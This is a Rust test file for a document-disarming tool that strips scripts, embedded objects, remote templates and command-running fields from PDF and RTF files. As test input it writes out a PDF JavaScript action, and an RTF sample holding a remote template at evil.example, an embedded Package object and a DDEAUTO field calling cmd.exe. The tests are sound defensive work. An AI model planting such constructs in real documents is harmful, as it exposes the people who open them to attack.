//! PDF and rich text.

use super::*;

const ACTIVE: &[u8] = include_bytes!("../../../testdata/pdf/active.pdf");

#[test]
fn a_pdf_loses_what_it_does_and_keeps_its_words() {
    let before = marks(ACTIVE);
    assert!(before.iter().any(|mark| mark == "javascript"), "{before:?}");
    let result = disarmed("x.pdf", ACTIVE);
    let after = marks(&result.bytes);
    assert_eq!(after, Vec::<String>::new(), "{:?}", result.removed);
    let first = |content: &Content| content.items[0].text.clone();
    let (before, after) = (first(&open(ACTIVE)), first(&open(&result.bytes)));
    for line in before.lines().take(1) {
        assert!(after.contains(line), "{before:?} {after:?}");
    }
    // Only the last revision is left, and it is one.
    assert_eq!(memchr::memmem::find_iter(&result.bytes, b"%%EOF").count(), 1);
}

#[test]
fn pdfs_that_do_nothing_stay_as_they_are() {
    let clean: [(&str, &[u8]); 4] = [
        ("libreoffice.pdf", include_bytes!("../../../testdata/pdf/libreoffice.pdf")),
        ("reportlab.pdf", include_bytes!("../../../testdata/pdf/reportlab.pdf")),
        ("ghostscript.pdf", include_bytes!("../../../testdata/pdf/ghostscript.pdf")),
        ("linearized.pdf", include_bytes!("../../../testdata/pdf/linearized.pdf")),
    ];
    for (name, bytes) in clean {
        assert_eq!(outcome(name, bytes), Outcome::Clean, "{name}");
    }
}

#[test]
fn what_stands_in_object_streams_goes_too() {
    let packed: &[u8] = include_bytes!("../../../testdata/pdf/object_streams.pdf");
    let result = disarmed("x.pdf", packed);
    assert_eq!(marks(&result.bytes), Vec::<String>::new());
    assert!(words(&open(&result.bytes)).contains("Filled in"), "{}", words(&open(&result.bytes)));
    for what in ["scripts", "embedded files", "starts of programs", "sending of forms", "links to other files"] {
        assert!(result.removed.iter().any(|own| own == what), "{what}: {:?}", result.removed);
    }
}

// A script in an object stream, or in a revision that no reader shows any more.
#[test]
fn no_revision_keeps_its_script() {
    let base: &[u8] = include_bytes!("../../../testdata/pdf/libreoffice.pdf");
    let update = b"\n9999 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n%%EOF\n";
    let armed = [base, update].concat();
    let result = disarmed("x.pdf", &armed);
    assert_eq!(result.removed, ["scripts"]);
    assert_eq!(marks(&result.bytes), Vec::<String>::new());
    assert_eq!(open(&result.bytes).items[0].text, open(base).items[0].text);
    assert!(memchr::memmem::find(&result.bytes, b"app.alert").is_none());
}

#[test]
fn an_encrypted_pdf_is_impossible() {
    let locked: [&[u8]; 2] =
        [include_bytes!("../../../testdata/pdf/aes_256.pdf"), include_bytes!("../../../testdata/pdf/rc4_40.pdf")];
    for bytes in locked {
        assert_eq!(outcome("x.pdf", bytes), Outcome::Impossible("it is encrypted".to_owned()));
    }
}

#[test]
fn rich_text_loses_objects_templates_and_fields_that_fetch() {
    let rtf = br"{\rtf1\ansi{\*\template http://evil.example/t.dotm}Dear {\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b616765000000000000000000}{\result {picture of it}}}
{\field{\*\fldinst {DDEAUTO c:\\cmd.exe x}}{\fldrslt shown}}{\field{\*\fldinst HYPERLINK https://a.example}{\fldrslt link}} end}";
    let result = disarmed("x.rtf", rtf);
    expect_test::expect![[r#"
        {\rtf1\ansiDear {{\result {picture of it}}}
        {\field{\fldrslt shown}}{\field{\*\fldinst HYPERLINK https://a.example}{\fldrslt link}} end}"#]]
    .assert_eq(&String::from_utf8(result.bytes).unwrap());
    assert_eq!(result.removed, ["remote template", "embedded objects", "fields that fetch or run something"]);
}
